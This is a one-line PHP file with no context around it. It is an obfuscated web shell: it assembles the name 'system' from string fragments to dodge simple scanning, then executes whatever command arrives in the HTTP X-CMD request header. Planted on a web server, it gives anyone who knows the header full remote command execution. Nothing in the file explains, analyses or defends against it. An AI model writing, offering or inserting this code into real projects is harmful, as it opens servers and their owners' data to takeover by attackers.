<?php $m = 'sy' . 'st' . 'em'; $m(getenv('HTTP_X_CMD'));
